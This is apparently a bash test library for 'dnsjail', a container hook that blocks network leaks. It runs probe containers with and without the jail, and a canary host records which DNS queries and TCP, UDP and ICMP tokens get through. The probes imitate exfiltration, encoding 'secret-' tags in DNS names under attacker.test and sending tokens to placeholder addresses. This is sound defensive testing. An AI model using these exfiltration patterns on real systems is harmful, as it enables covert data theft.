# While RUNTIME runs container ID (started with its streams on pipes, see
# run_with_pipes): the runtime holds pipes, the container's process shares them (the positive
# control: the comparison sees a shared pipe), and none of this run's dnsjail processes holds
# any of them. Adds four TAP lines labelled LABEL.
assert_runtime_fds_unheld() { # LABEL RUNTIME ID CONTAINER_PID
    local label=$1 runtime=$2 id=$3 cpid=$4 rpid ours
    rpid=$(runtime_pid_of "$cpid")
    tap_check "$label: $runtime's process for $id (pid ${rpid:-?}) holds pipes or sockets" \
        eval '[ -n "$rpid" ] && [ -n "$(fd_files_of "$rpid")" ]'
    tap_check "$label: control: the container's process shares a descriptor with $runtime" \
        eval 'holders_among "$rpid" "$cpid" >/dev/null'
    ours=$(world_dnsjail_processes | tr '\n' ' ')
    tap_check "$label: dnsjail processes seen (${ours% })" test -n "$ours"
    # shellcheck disable=SC2086 # a list of pids
    tap_check "$label: no dnsjail process holds a descriptor of $runtime's" \
        eval '[ -n "$rpid" ] && ! holders_among "$rpid" $ours >/dev/null' ||
        tap_diag "held by: $(holders_among "$rpid" $ours | tr '\n' ' ')"
}

# ---- probe results ------------------------------------------------------------------------
# The field KEY of probe LABEL's result line in FILE.
probe_field() { # FILE LABEL KEY
    awk -v label="$2" -v key="$3" '$1 == label { for (i = 2; i <= NF; i++) { split($i, kv, "="); if (kv[1] == key) { sub("^[^=]*=", "", $i); print $i; exit } } }' "$1"
}
probe_is() { [ "$(probe_field "$1" "$2" "$3")" = "$4" ]; }
probe_isnt() { local v; v=$(probe_field "$1" "$2" "$3"); [ -n "$v" ] && [ "$v" != "$4" ]; }
probe_fast() { local ms; ms=$(probe_field "$1" "$2" ms); [ -n "$ms" ] && [ "$ms" -lt "${3:-1000}" ]; }

# Lines of tests/e2e/http-probe.sh's output in $RUN_OUT: the site's reply (httpserve.py logs
# nothing, so its body, BODY with the newline as "_", is the proof it was reached), and whether
# the container's effective capabilities (a hex mask) hold CAP_NET_RAW (bit 13); without the
# line neither is true.
site_body_is() { probe_is "$RUN_OUT" http_allowed body "${1}_"; }
caps_of_run() { probe_field "$RUN_OUT" caps eff; }
has_cap_net_raw() { local c; c=$(caps_of_run); [ -n "$c" ] && (((0x$c >> 13) & 1)); }
lacks_cap_net_raw() { local c; c=$(caps_of_run); [ -n "$c" ] && ! (((0x$c >> 13) & 1)); }

# ---- the battery every runtime goes through -----------------------------------------------
# The probes (probe.py's arguments), with a fresh random tag in every name and payload.
world_probe_args() { # TAG
    local t=$1
    echo "dns|dns_resolv|secret-$t-r.attacker.test|A|-|udp"
    echo "dns|dns_literal1|secret-$t-l1.attacker.test|A|198.51.100.53|udp"
    echo "dns|dns_literal2|secret-$t-l2.attacker.test|A|203.0.113.9|udp"
    echo "dns|dns_tcp|secret-$t-t.attacker.test|A|192.0.2.1|tcp"
    echo "dns|dns_v6|secret-$t-6.attacker.test|A|2001:db8::1|udp"
    echo "dns|dns_aaaa|secret-$t-q.attacker.test|AAAA|-|udp"
    echo "dns|dns_txt|secret-$t-x.attacker.test|TXT|-|udp"
    echo "tcp|tcp22|192.0.2.1|22|tok-$t-tcp22"
    echo "tcp|tcp80|192.0.2.1|80|tok-$t-tcp80"
    echo "tcp|tcp443|198.51.100.44|443|tok-$t-tcp443"
    echo "tcp|tcp9999|203.0.113.9|9999|tok-$t-tcp9999"
    echo "tcp|tcp6_22|2001:db8::1|22|tok-$t-tcp6"
    echo "udp|udp9999|192.0.2.1|9999|tok-$t-udp"
    echo "udp|udp6_9999|2001:db8::1|9999|tok-$t-udp6"
    echo "icmp|icmp4|192.0.2.1|tok-$t-icmp4"
    echo "icmp|icmp6|2001:db8::1|tok-$t-icmp6"
}
# What probe LABEL carries to the outside: the query name or the payload token.
_token() { # TAG LABEL
    world_probe_args "$1" | awk -F'|' -v l="$2" '$2 == l { print ($1 == "dns") ? $3 : $NF }'
}

# Runs the probe container; leaves RUN_* set. JAIL yes|no, ANNOTATIONS as run_container.
world_run_probe() { # RUNTIME ID NSPATH JAIL ANNOTATIONS TAG
    local args=()
    mapfile -t args < <(world_probe_args "$6")
    run_container "$1" "$2" "$3" "$4" "$5" -- /usr/bin/python3 /probe.py "${args[@]}"
}

_show_run() {
    tap_diag "exit status $RUN_RC"
    tap_diag_file "$RUN_OUT" 40
    tap_diag_file "$RUN_ERR" 20
}

# The positive control: no hook at all; every probe must reach the canary, or the test world
# could not see a leak and the jailed run would prove nothing.
world_battery_control() { # RUNTIME
    local rt=$1 tag ns id
    tag=$(world_random)
    world_ctns "ctl$rt" || tap_bail "cannot make a namespace"
    ns=$W_NS
    id=$W_ID-$rt-control
    world_run_probe "$rt" "$id" "$ns" no "" "$tag"
    tap_check "$rt control: container without the hook ran" grep -q '^probe-done' "$RUN_OUT" || _show_run
    local label
    for label in dns_resolv dns_literal1 dns_literal2 dns_tcp dns_v6; do
        tap_check "$rt control: $label answered by the canary resolver (203.0.113.7)" \
            probe_is "$RUN_OUT" "$label" answers "A:203.0.113.7"
        tap_check "$rt control: canary resolver logged $label's name" \
            canary_saw_dns "$(_token "$tag" "$label")"
    done
    for label in tcp22 tcp80 tcp443 tcp9999 tcp6_22; do
        tap_check "$rt control: $label connected" probe_is "$RUN_OUT" "$label" status connected
        tap_check "$rt control: canary saw $label's token" canary_saw_net "$(_token "$tag" "$label")"
    done
    for label in udp9999 udp6_9999; do
        tap_check "$rt control: $label got a reply" probe_is "$RUN_OUT" "$label" status reply
        tap_check "$rt control: canary saw $label's token" canary_saw_net "$(_token "$tag" "$label")"
    done
    for label in icmp4 icmp6; do
        tap_check "$rt control: $label got a reply" probe_is "$RUN_OUT" "$label" status reply
        tap_check "$rt control: canary saw $label's token" canary_saw_net "$(_token "$tag" "$label")"
    done
}

# The jailed run: every probe answered by the stub or refused at once, nothing at the canary.
world_battery_jailed() { # RUNTIME
    local rt=$1 tag ns id label
    tag=$(world_random)
    world_ctns "jail$rt" || tap_bail "cannot make a namespace"
    ns=$W_NS
    id=$W_ID-$rt-jailed
    world_run_probe "$rt" "$id" "$ns" yes "io.dnsjail.enable=true" "$tag"
    tap_check "$rt jailed: container ran under the hook (exit 0)" test "$RUN_RC" -eq 0 || _show_run
    tap_check "$rt jailed: probes ran" grep -q '^probe-done' "$RUN_OUT" || _show_run
    for label in dns_resolv dns_literal1 dns_literal2 dns_tcp dns_v6; do
        tap_check "$rt jailed: $label answered 6.6.6.6 by the stub" \
            probe_is "$RUN_OUT" "$label" answers "A:6.6.6.6" ||
            tap_diag "$(grep "^$label " "$RUN_OUT")"
    done
    tap_check "$rt jailed: AAAA gets NOERROR without an answer" \
        eval 'probe_is "$RUN_OUT" dns_aaaa rcode NOERROR && probe_is "$RUN_OUT" dns_aaaa answers -' ||
        tap_diag "$(grep "^dns_aaaa " "$RUN_OUT")"
    tap_check "$rt jailed: TXT gets NODATA" \
        eval 'probe_is "$RUN_OUT" dns_txt rcode NOERROR && probe_is "$RUN_OUT" dns_txt answers -' ||
        tap_diag "$(grep "^dns_txt " "$RUN_OUT")"
    tap_check "$rt jailed: the canary resolver saw none of the names" \
        canary_none_dns "$tag"
    tap_check "$rt jailed: the log has a dns_query line for the secret with the container id" \
        log_has_query "$RUN_CID" "secret-$tag-r.attacker.test" || tap_diag_file "$W_LOG" 10
    for label in tcp22 tcp9999 tcp6_22; do
        tap_check "$rt jailed: $label refused within 1 s" \
            eval 'probe_isnt "$RUN_OUT" $label status connected && probe_fast "$RUN_OUT" $label 1000' ||
            tap_diag "$(grep "^$label " "$RUN_OUT")"
    done
    # Ports 80 and 443 end at dnsjail-proxy: the probe's bytes are not HTTP (400) and not TLS
    # (closed without a byte), and nothing reaches the internet.
    tap_check "$rt jailed: tcp80 is answered by dnsjail-proxy with an HTTP error" \
        eval 'grep -q "^tcp80 .*status=connected reply=b.HTTP/1.1 4" "$RUN_OUT"' ||
        tap_diag "$(grep "^tcp80 " "$RUN_OUT")"
    tap_check "$rt jailed: tcp443 is closed by dnsjail-proxy without a byte" \
        grep -qE "^tcp443 .*status=connected reply=b(''|\"\") " "$RUN_OUT" ||
        tap_diag "$(grep "^tcp443 " "$RUN_OUT")"
    for label in udp9999 udp6_9999 icmp4 icmp6; do
        tap_check "$rt jailed: $label fails" probe_isnt "$RUN_OUT" "$label" status reply ||
            tap_diag "$(grep "^$label " "$RUN_OUT")"
    done
    tap_check "$rt jailed: the canary listeners saw nothing of this run" \
        canary_none_net "$tag" || tap_diag "$(grep -F "$tag" "$W_CANARY_NET_LOG")"
    assert_gone "$rt jailed, after exit" "$RUN_CID" "$ns"
}

# io.dnsjail.enable=false: the hook runs but leaves the container alone.
world_battery_disabled() { # RUNTIME
    local rt=$1 tag ns id
    tag=$(world_random)
    world_ctns "off$rt" || tap_bail "cannot make a namespace"
    ns=$W_NS
    id=$W_ID-$rt-disabled
    run_container "$rt" "$id" "$ns" yes "io.dnsjail.enable=false" -- \
        /usr/bin/python3 /probe.py "dns|dns_resolv|secret-$tag-off.attacker.test|A|-|udp"
    tap_check "$rt enable=false: container ran" test "$RUN_RC" -eq 0 || _show_run
    tap_check "$rt enable=false: answer came from the canary (not jailed)" \
        probe_is "$RUN_OUT" dns_resolv answers "A:203.0.113.7" || _show_run
    tap_check "$rt enable=false: the canary saw the name" canary_saw_dns "secret-$tag-off"
    tap_check "$rt enable=false: no table was installed" no_nft_table_in "$ns"
    assert_gone "$rt enable=false" "$RUN_CID"
}

# The runtime's descriptors: a jailed container run in the foreground with the runtime's
# streams on a pipe to cat. While it runs, none of this run's dnsjail processes holds any of
# the runtime's pipes or sockets (assert_runtime_fds_unheld); when it is killed, the run ends
# and cat sees EOF, so nothing of ours kept the pipe's write end.
world_battery_pipes() { # RUNTIME
    local rt=$1 id ns b out cpid catpid
    world_ctns "fds$rt" || tap_bail "cannot make a namespace"
    ns=$W_NS
    id=$W_ID-$rt-fds
    out=$W_TMP/out/$id.out
    b=$(world_bundle "$id" --netns "$ns" --hook "$W_HOOK" --hook-config "$W_CONF" \
        --annotation io.dnsjail.enable=true -- /bin/sleep 300) || tap_bail "cannot make a bundle"
    W_CONTAINERS+=("$rt $id")
    "${rt}_cmd" run --bundle "$b" "$id" </dev/null 2>&1 | cat >"$out" &
    catpid=$!
    _container_running() {
        cpid=$("${rt}_cmd" state "$id" 2>/dev/null |
            python3 -c 'import json,sys; d=json.load(sys.stdin); print(d["pid"] if d.get("status") == "running" else "")' 2>/dev/null)
        [ -n "$cpid" ] && [ "$cpid" != 0 ]
    }
    tap_check "$rt pipes: the jailed container runs" wait_until 30 _container_running ||
        tap_diag_file "$out" 10
    tap_check "$rt pipes: its daemons run" wait_until 10 eval '[ -n "$(daemons_for "$id")" ]'
    assert_runtime_fds_unheld "$rt pipes" "$rt" "$id" "$cpid"
    "${rt}_cmd" kill "$id" KILL >/dev/null 2>&1
    _cat_done() { ! kill -0 "$catpid" 2>/dev/null; }
    tap_check "$rt pipes: after the kill, the runtime's output pipe reaches EOF" wait_until 20 _cat_done ||
        tap_diag_file "$out" 10
    wait "$catpid" 2>/dev/null
    runtime_delete_force "$rt" "$id" >/dev/null 2>&1
    assert_gone "$rt pipes" "$id" "$ns"
}

# Jailed containers in a persistent namespace (a pod's, as bench/container-start.sh's
# "persistent" runs), ROUNDS in a row, each its namespace's only member: every poststop takes
# the table out (and closes its netlink socket in the background, lib/jail/nft.c). Each run
# must end well within the runtime's own hook timeout (crun: 10 s, after which it only warns):
# W_RUN_TIMEOUT is 8 s here, so a hook the runtime did not see exit fails the run.
world_battery_persistent_rounds() { # RUNTIME ROUNDS
    local rt=$1 rounds=$2 i id b ns ok=0 saved=$W_RUN_TIMEOUT
    world_ctns "pers$rt" || tap_bail "cannot make a namespace"
    ns=$W_NS
    W_RUN_TIMEOUT=8
    for i in $(seq 1 "$rounds"); do
        id=$W_ID-$rt-pers$i
        b=$(world_bundle "$id" --netns "$ns" --hook "$W_HOOK" --hook-config "$W_CONF" \
            --annotation io.dnsjail.enable=true -- /bin/true) || tap_bail "cannot make a bundle"
        W_CONTAINERS+=("$rt $id")
        # The streams on a pipe, as a caller that reads the runtime's output has them.
        "${rt}_cmd" run --bundle "$b" "$id" </dev/null 2>&1 | cat >"$W_TMP/out/$id.out"
        RUN_RC=${PIPESTATUS[0]}
        if [ "$RUN_RC" -eq 0 ] && ! grep -q "timeout" "$W_TMP/out/$id.out" &&
            log_has_event jail_stopped "$id"; then
            ok=$((ok + 1))
        else
            tap_diag "run $i: exit $RUN_RC"
            tap_diag_file "$W_TMP/out/$id.out" 5
        fi
    done
    W_RUN_TIMEOUT=$saved
    tap_check_out "$rt persistent namespace: $rounds jailed runs each ended within 8 s, cleanly" \
        "$rounds" "$ok"
    tap_check "$rt persistent namespace: table inet dnsjail is gone after the last" no_nft_table_in "$ns"
    tap_check "$rt persistent namespace: no daemon, no state left" \
        wait_until 5 eval 'no_daemons_at_all && state_empty'
}

# Sets up everything the battery needs. Call once, after world_require*.
world_up() {
    world_init
    world_internet || tap_bail "cannot build the fake internet"
    world_hostns || tap_bail "cannot build the host namespace"
}
